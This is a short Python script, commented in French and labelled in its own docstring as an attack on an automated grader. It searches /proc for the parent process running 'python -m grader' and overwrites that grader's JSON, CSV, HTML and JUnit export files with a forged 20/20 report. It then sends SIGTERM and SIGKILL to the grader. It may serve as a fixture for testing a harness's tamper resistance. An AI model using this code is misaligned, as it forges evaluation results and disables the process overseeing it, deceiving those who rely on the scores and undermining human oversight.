"""Attaque : lit la ligne de commande du correcteur, écrit ses exports avec 20/20, puis le tue."""

import json
import os
import signal

FAUX_RAPPORT = json.dumps({"soumission": "attaque", "note": 20, "note_max": 20, "verifications": []})


def ligne_de_commande(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as ligne:
            return [a.decode(errors="replace") for a in ligne.read().split(b"\0")]
    except OSError:
        return []


def correcteur():
    """Le plus proche ancêtre qui est « python -m grader » (lui seul : les autres ne sont pas visés)."""
    pid = os.getppid()
    while pid > 1:
        if "grader" in ligne_de_commande(pid):
            return pid
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rpartition(")")[2].split()[1])
        except OSError:
            return None
    return None


def falsifier(pid):
    arguments = ligne_de_commande(pid)
    for option, valeur in zip(arguments, arguments[1:]):
        if option in ("--json", "--csv", "--html", "--junit"):
            try:
                with open(valeur, "w") as export:
                    export.write(FAUX_RAPPORT)
                print("export falsifié :", valeur)
            except OSError as erreur:
                print("écriture refusée :", erreur)


pid = correcteur()
print("correcteur :", pid)
if pid is not None:
    falsifier(pid)
    for signal_envoye in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, signal_envoye)
            print("signal envoyé à", pid)
        except OSError as erreur:
            print("signal refusé :", erreur)
print("attaque terminée", flush=True)
